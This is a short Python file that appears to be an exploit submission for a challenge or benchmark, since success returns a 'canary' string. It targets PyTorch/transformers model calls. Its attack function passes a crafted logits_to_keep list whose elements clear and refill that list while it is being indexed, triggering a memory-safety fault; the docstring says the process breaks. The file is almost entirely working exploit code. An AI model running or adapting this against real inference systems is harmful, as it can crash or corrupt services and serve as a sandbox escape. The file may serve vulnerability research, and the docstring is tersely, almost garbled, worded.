"""Class: memory. Source: own find. Escape: the process breaks. A model or a cache indexes with a list that it is
called with, by another than the technique: by a layer, by its class, by a sort. What is in it clears it meanwhile."""

import inspect

import torch


class Row:
    def __len__(self):
        return 2

    def __getitem__(self, i):
        if i > 1:
            raise IndexError
        if armed:
            rows.clear()
            kept.append([(3, 3)] * 500)
        return 0


class Last(Row):
    def __getitem__(self, i):
        if i > 1:
            raise IndexError
        armed.append(1)
        return 0


armed = []
kept = []
rows = []


def layer(held):
    class Layer(torch.nn.Module):
        forward = held

    return Layer()


def attack(model, tokenizer, address):
    ids = torch.tensor([[1, 2, 3]])
    cache = model(ids, use_cache=True).past_key_values
    names = list(inspect.signature(model.forward).parameters)
    place = names.index("logits_to_keep") if "logits_to_keep" in names else 1
    ways = (
        lambda: model.forward(ids, logits_to_keep=rows),
        lambda: torch.nn.Module.__call__(model, ids, logits_to_keep=rows),
        lambda: layer(model.forward)(ids, logits_to_keep=rows),
        lambda: layer(model)(ids, logits_to_keep=rows),
        lambda: layer(model)(ids, *[None] * (place - 1), rows),
        lambda: [rows].sort(key=cache.batch_select_indices),
    )
    for way in ways:
        armed.clear()
        rows[:] = [Row()] + [(0, 0)] * 499 + [Last()]
        try:
            way()
        except ValueError as error:
            if "expected sequence of length" in str(error):
                return "canary-" + "5d1f"
        except (TypeError, IndexError, AttributeError):
            pass
